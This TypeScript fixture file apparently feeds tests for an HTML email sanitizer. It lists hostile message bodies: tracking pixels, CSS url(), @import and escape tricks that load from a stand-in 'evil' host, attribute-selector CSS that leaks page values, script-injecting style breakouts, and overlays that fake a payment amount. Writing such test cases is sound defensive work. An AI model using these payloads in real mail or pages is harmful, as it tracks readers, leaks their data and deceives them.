/** Bodies that try to load something, to tell that they were opened or to change what they look like; and bodies that try to lie over the page. */
import { type Body, body, EVIL } from './body.js'

const style = (css: string, inside = '<p class="a" id="b">x</p>'): string => `<style>${css}</style>${inside}`

export const LOADING: ReadonlyArray<Body> = [
  body(
    'pixel',
    'A picture that tells that the mail was opened.',
    `<img src="${EVIL}/p.gif?id=1" width=1 height=1><img src=//evil.test/q.gif><img src="http:evil.test/r.gif">`,
  ),
  body(
    'srcset',
    'Pictures by other attributes.',
    `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" src=""><picture><source srcset="${EVIL}/3.png"><img lowsrc="${EVIL}/4.png" dynsrc="${EVIL}/5"></picture>`,
  ),
  body(
    'background',
    'Backgrounds of old HTML.',
    `<body background="${EVIL}/b.png"><table background="${EVIL}/t.png"><tr background="${EVIL}/r.png"><td background="${EVIL}/d.png">x</table>`,
  ),
  body(
    'media',
    'Sound and film.',
    `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay preload><source src="${EVIL}/s.mp4"><track src="${EVIL}/t.vtt"></video><audio src="${EVIL}/a.mp3" autoplay></audio><bgsound src="${EVIL}/b.wav">`,
  ),
  body(
    'link',
    'Style sheets, icons and what is fetched ahead.',
    `<link rel="stylesheet" href="${EVIL}/s.css"><link rel="icon" href="${EVIL}/i.ico"><link rel="prefetch" href="${EVIL}/f"><link rel="preload" as="image" href="${EVIL}/l"><link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${EVIL}"><link rel="prerender" href="${EVIL}/r"><link rel="manifest" href="${EVIL}/m">`,
  ),
  body(
    'input-image',
    'A picture as a button.',
    `<input type="image" src="${EVIL}/i.png"><isindex src="${EVIL}/j.png">`,
  ),
  body(
    'css-url',
    'Backgrounds of CSS.',
    style(`.a{background:url(${EVIL}/1) , url("${EVIL}/2");background-image:URL( '${EVIL}/3' )}`),
  ),
  body(
    'css-inline',
    'The same in an attribute.',
    `<p style="background-image:url(${EVIL}/1);list-style:url(${EVIL}/2);cursor:url(${EVIL}/3),auto;border-image:url(${EVIL}/4) 30">x</p>`,
  ),
  body(
    'css-import',
    'A style sheet that brings in another.',
    style(`@import url("${EVIL}/1.css");@import "${EVIL}/2.css" screen;@IMPORT '${EVIL}/3.css';`),
  ),
  body(
    'css-font',
    'A font from elsewhere.',
    style(`@font-face{font-family:f;src:url(${EVIL}/f.woff)}.a{font-family:f}`),
  ),
  body(
    'css-image-set',
    'Pictures by newer functions.',
    style(
      `.a{background:image-set("${EVIL}/1" 1x);background:-webkit-image-set(url(${EVIL}/2) 1x);content:image("${EVIL}/3");mask:element(#b);background:cross-fade(url(${EVIL}/4),red)}`,
    ),
  ),
  body(
    'css-escape',
    'The same in CSS escapes.',
    style(`.a{background:\\75\\72\\6c(${EVIL}/1);b\\61 ckground:u\\rl(${EVIL}/2)}@\\69mport "${EVIL}/3";`),
  ),
  body(
    'css-comment',
    'Comments within names.',
    style(`.a{back/**/ground:url(${EVIL}/1);background:ur/**/l(${EVIL}/2);/*}*/background:url(${EVIL}/3)}`),
  ),
  body(
    'css-attr',
    'Reads the page by what it loads.',
    style(
      `a[href^="h"]{background:url(${EVIL}/h)}input[value^=s]{background:url(${EVIL}/s)}p:not([x]){background:url(${EVIL}/n)}`,
      '<a href="https://x.test">x</a>',
    ),
  ),
  body('css-variable', 'An address in a variable.', style(`:root{--u:url(${EVIL}/1)}.a{background:var(--u)}`)),
  body(
    'css-cursor',
    'Cursors, list marks, shapes and filters.',
    style(
      `.a{cursor:url(${EVIL}/1),auto;list-style-image:url(${EVIL}/2);shape-outside:url(${EVIL}/3);filter:url(${EVIL}/4#f);clip-path:url(${EVIL}/5#c);mask-image:url(${EVIL}/6);offset-path:url(${EVIL}/7)}.a::before{content:url(${EVIL}/8)}`,
    ),
  ),
  body(
    'css-nested',
    'Rules within rules and conditions.',
    style(
      `@media all{@supports (color:red){.a{background:url(${EVIL}/1);& b{background:url(${EVIL}/2)}}}}@layer x{.a{background:url(${EVIL}/3)}}`,
      '<p class=a><b>x</b></p>',
    ),
  ),
  body(
    'css-namespace',
    'Addresses in at-rules.',
    style(
      `@namespace url(${EVIL}/1);@document url(${EVIL}/2){p{color:red}}@page{background:url(${EVIL}/3)}@counter-style c{symbols:url(${EVIL}/4)}@property --x{syntax:"<url>";initial-value:url(${EVIL}/5);inherits:true}`,
    ),
  ),
  body(
    'css-expression',
    'CSS of old browsers that runs.',
    `<p style="width:expression(alert(1));behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml#x)">x</p>`,
  ),
  body(
    'style-break',
    'An attribute that ends the style element.',
    `<p style="color:red}</style><img src=${EVIL}/1><script>alert(1)</script>">x</p><p style="font-family:'&lt;/style&gt;&lt;img src=${EVIL}/2&gt;'">y</p>`,
  ),
  body(
    'style-break-rule',
    'An attribute that ends its rule and begins another.',
    `<p style="color:red}*{background:url(${EVIL}/1)}x{">x</p><p style="color:red;/*">y</p><p style='font-family:"'>z</p><p style="color:rgb(">w</p><p style="color:red\\">v</p>`,
    { seen: ['z', 'w'] },
  ),
  body(
    'style-comment',
    'A style element in an HTML comment.',
    `<style><!-- .a{background:url(${EVIL}/1)} --></style><p class=a>x</p>`,
  ),
  body(
    'style-unclosed',
    'A style element that is never closed.',
    `<p class=a>x</p><style>.a{background:url(${EVIL}/1)`,
  ),
  body(
    'svg-css',
    'A style sheet in SVG, which holds for all.',
    `<svg><style>.a{background:url(${EVIL}/1);display:none}</style></svg><p class=a>hushed</p>`,
    { hidden: ['hushed'] },
  ),
  body(
    'overlay-fixed',
    'Lies over the whole page.',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:red">over all</div>',
  ),
  body(
    'overlay-absolute',
    'Goes up out of its place.',
    '<div style="position:absolute;top:-300px;left:-10px;width:3000px;height:3000px;background:red">over all</div>',
    { hidden: ['over all'] },
  ),
  body(
    'overlay-margin',
    'Huge negative margins.',
    '<div style="margin:-500px 0 0 -500px;width:3000px;height:3000px;background:red">over all</div>',
    { hidden: ['over all'] },
  ),
  body(
    'overlay-transform',
    'Moved and enlarged.',
    '<div style="transform:translate(-300px,-300px) scale(20);background:red">over all</div>',
    { hidden: ['over all'] },
  ),
  body(
    'overlay-shadow',
    'Shadows and outlines beyond the box.',
    '<div style="box-shadow:0 0 0 9999px red;outline:9999px solid red;filter:drop-shadow(0 -300px red)">x</div>',
  ),
  body(
    'overlay-text',
    'A text laid over another.',
    '<p>Pay 10</p><div style="margin-top:-40px;background:#fff;position:relative">Pay 1000</div>',
    { seen: ['Pay 10'] },
  ),
  body(
    'viewport',
    'Zooms and scrolls the page.',
    '<meta name="viewport" content="width=1,initial-scale=99"><style>html{zoom:50;scroll-behavior:smooth}body{overflow:hidden}</style><p id=x>x</p>',
  ),
  body(
    'view-transition',
    'Style of the page that it is in.',
    '<style>:root{view-transition-name:x;color-scheme:dark}::view-transition{background:red}@view-transition{navigation:auto}</style>x',
  ),
]
